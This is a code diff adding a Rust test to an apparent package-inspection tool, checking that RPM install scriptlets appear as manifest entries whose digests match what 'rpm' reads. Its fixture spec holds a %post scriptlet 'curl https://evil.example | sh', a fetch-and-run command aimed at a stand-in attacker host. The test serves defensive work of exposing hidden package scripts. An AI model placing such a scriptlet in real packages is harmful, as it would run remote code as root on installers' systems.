@@ -66,6 +66,53 @@ fn every_payload_codec_lists_what_rpm_dump_lists() {
     }
 }
 
+/// rpm runs a package's scriptlets as root, from the header: they are
+/// entries under `.rpm-scripts/` with the text `rpm -q --scripts` reads, so
+/// an update adding a `%post` shows in manifest and diff (it read as
+/// identical to the package without one).
+#[test]
+#[cfg_attr(not(any(ci, has_rpmbuild)), ignore = "needs rpmbuild")]
+fn scriptlets_are_entries_with_the_text_rpm_runs() {
+    let dir = tempfile::tempdir().unwrap();
+    let plain = open(&rpm::build(dir.path(), &rpm::Spec::default())).unwrap();
+    assert!(
+        plain
+            .entries
+            .iter()
+            .all(|e| !e.path.to_string().contains(".rpm-scripts")),
+        "{:#?}",
+        plain.entries
+    );
+    let scripts = "%post\ncurl https://evil.example | sh\n%preun -p /bin/bash\necho bye";
+    let spec = rpm::Spec {
+        scripts,
+        ..Default::default()
+    };
+    let pkg = rpm::build(&dir.path().join("scripts"), &spec);
+    let r = open(&pkg).unwrap();
+    assert!(r.findings.is_empty(), "{:#?}", r.findings);
+    for (name, tag) in [
+        ("postin", "POSTIN"),
+        ("postin-interpreter", "POSTINPROG"),
+        ("preun", "PREUN"),
+        ("preun-interpreter", "PREUNPROG"),
+    ] {
+        let out = common::succeed(
+            std::process::Command::new("rpm")
+                .args(["-qp", "--qf", &format!("%{{{tag}}}")])
+                .arg(&pkg),
+        );
+        let want = glassbox_core::digest::Sha256Digest::of(&out).to_hex();
+        let e = entry(&r, &format!(".rpm-scripts/{name}"));
+        assert_eq!(e.kind, EntryKind::File, "{name}");
+        assert_eq!(
+            e.digests.unwrap().sha256.to_hex(),
+            want,
+            "{name}: rpm reads {out:?}"
+        );
+    }
+}
+
 /// The bytes of a freshly built package, and the offset of its payload.
 fn built(dir: &std::path::Path) -> (Vec<u8>, usize) {
     let pkg = rpm::build(dir, &rpm::Spec::default());
